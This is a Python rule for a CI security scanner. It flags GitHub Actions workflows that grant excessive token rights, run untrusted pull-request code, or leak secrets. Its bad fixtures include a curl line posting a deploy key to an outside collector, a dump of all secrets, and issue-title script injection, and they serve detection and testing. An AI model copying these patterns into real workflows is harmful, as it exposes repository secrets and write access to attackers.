"""A workflow has more rights than its work needs, or lends them to strangers.

The token of a workflow can push code, publish releases and read secrets. Any step, and any action it uses, has what
the token has; a pull request that is checked out and built in the name of the repository has it too.
"""

from collections.abc import Iterator

from gate.facts.workflow import Workflow
from gate.rule import Hit, Repo, Rule, Severity

rule = Rule.of(
    __name__,
    __doc__,
    severity=Severity.HIGH,
    cwes=(269, 829, 250),
    fix="""Write `permissions: {}` or `contents: read` at the top and give each job what it needs. Build pull requests
    under `pull_request`, whose token only reads. Hand titles, branches and comments to scripts by `env:`.""",
    bad=[
        {
            ".github/workflows/build.yml": """
            on: push
            permissions: write-all  # <-
            jobs: {b: {runs-on: ubuntu-latest, steps: [{run: make}]}}
            """,
            ".github/workflows/deploy.yml": """
            on: push
            permissions: {}
            jobs:
              d:
                permissions: write-all  # <-
                steps:
                  - run: ./deploy
            """,
        },
        {
            ".github/workflows/test.yml": """
            on: pull_request_target
            permissions: {contents: read}
            jobs:
              t:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                    with:
                      ref: ${{ github.event.pull_request.head.sha }}  # <-
                  - run: npm ci && npm test
            """,
            ".github/workflows/by_hand.yml": """
            on: pull_request_target
            permissions: {contents: read}
            jobs:
              t:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - run: |
                      gh pr checkout ${{ github.event.number }}  # <-
                      npm ci && npm test
            """,
            ".github/workflows/after.yml": """
            on:
              workflow_run: {workflows: [build]}
            permissions: {contents: read}
            jobs:
              t:
                steps:
                  - uses: actions/checkout@v4
                    with: {ref: "${{ github.event.workflow_run.head_branch }}"}  # <-
                  - uses: ./.github/actions/report
            """,
        },
        {
            ".github/workflows/hello.yml": """
            on: issues
            permissions: {}
            jobs:
              x:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      echo hello
                      echo "${{ github.event.issue.title }}"  # <-
            """,
            ".github/workflows/own.yml": """
            on: [pull_request]
            permissions: {}
            jobs:
              t:
                runs-on: [self-hosted, linux]  # <-
                env:
                  ALL: ${{ toJSON(secrets) }}  # <-
                steps:
                  - run: |
                      curl -d "k=${{ secrets.DEPLOY_KEY }}" https://collect.acme.dev  # <-
                      echo "${{ secrets.DEPLOY_KEY }}" | rev  # <-
            """,
            ".github/workflows/called.yml": """
            on: push
            permissions: {}
            jobs:
              d:
                uses: somebody/workflows/.github/workflows/deploy.yml@v3
                secrets: inherit  # <-
            """,
            ".github/workflows/plain.yml": """
            on: push  # <-
            jobs:
              b:
                steps:
                  - uses: somebody/deploy@v3
            """,
        },
    ],
    good=[
        {
            ".github/workflows/release.yml": """
            on: push
            permissions: {contents: write}
            jobs: {release: {runs-on: ubuntu-latest, steps: [{run: make release}]}}
            """,
            ".github/workflows/child.yml": """
            on: workflow_call
            jobs: {child: {runs-on: ubuntu-latest, steps: [{run: make}]}}
            """,
            ".github/workflows/publish.yml": """
            on: push
            permissions: {}
            jobs: {p: {permissions: {id-token: write}, steps: [{uses: pypa/gh-action-pypi-publish@release/v1}]}}
            """,
            ".github/workflows/hello.yml": """
            on: issues
            jobs:
              x:
                steps: [{run: 'echo "$TITLE"', env: {TITLE: "${{ github.event.issue.title }}"}}]
            """,
            ".github/workflows/own.yml": """
            on: push
            permissions: {}
            jobs:
              t:
                runs-on: self-hosted
                steps:
                  - run: |
                      curl -H "Authorization: Bearer ${{ secrets.DEPLOY_KEY }}" https://api.acme.dev/deploy
                      echo "${{ secrets.KEY_FILE }}" | base64 -d > key
            """,
            ".github/workflows/called.yml": """
            on: push
            permissions: {}
            jobs: {d: {uses: ./.github/workflows/deploy.yml, secrets: inherit}}
            """,
            ".github/workflows/label.yml": """
            on: pull_request_target
            permissions: {pull-requests: write}
            jobs: {label: {runs-on: ubuntu-latest, steps: [{uses: actions/labeler@v5}]}}
            """,
            ".github/workflows/test.yml": """
            on: pull_request
            permissions: {contents: read}
            jobs:
              t:
                steps:
                  - uses: actions/checkout@v4
                    with: {ref: "${{ github.event.pull_request.head.sha }}"}
                  - run: make
            """,
        },
        {"values.yml": "on: push\npermissions: write-all\njobs: {b: {steps: []}}"},
    ],
    misses=[
        "What an action does with the token it is given.",
        "The default of the repository or the organization, which may be to read only.",
    ],
)

_SAID = {
    "all": (None, "`{value}` lets every step of this change everything in the repository"),
    "foreign": (
        None,
        "Under `{value}` a stranger's code is checked out and run with the repository's token and secrets",
    ),
    "taken": (
        Severity.MEDIUM,
        "Under `{value}` a stranger's files are checked out beside the repository's token and secrets",
    ),
    "pasted": (Severity.MEDIUM, "`{value}` is pasted into a script, so whoever writes it writes commands"),
    "own": (
        Severity.MEDIUM,
        "Under `{value}` the code of whoever sends it runs on a machine of your own, and may stay there for the next job",
    ),
    "every": (Severity.MEDIUM, "`{value}` hands all secrets over where some would do"),
    "sent": (Severity.MEDIUM, "`{value}` gives a secret away, or writes it so that the log does not blank it out"),
    "unsaid": (
        Severity.MEDIUM,
        "No permissions are written, so `{value}` gets a token with all that the repository's default gives",
    ),
}


@rule.check(Workflow)
def look(one: Workflow, repo: Repo) -> Iterator[Hit]:
    del repo
    severity, said = _SAID[one.how]
    yield Hit(one.place, f"{said.format(value=one.value)}.", detail=one.how, severity=severity)
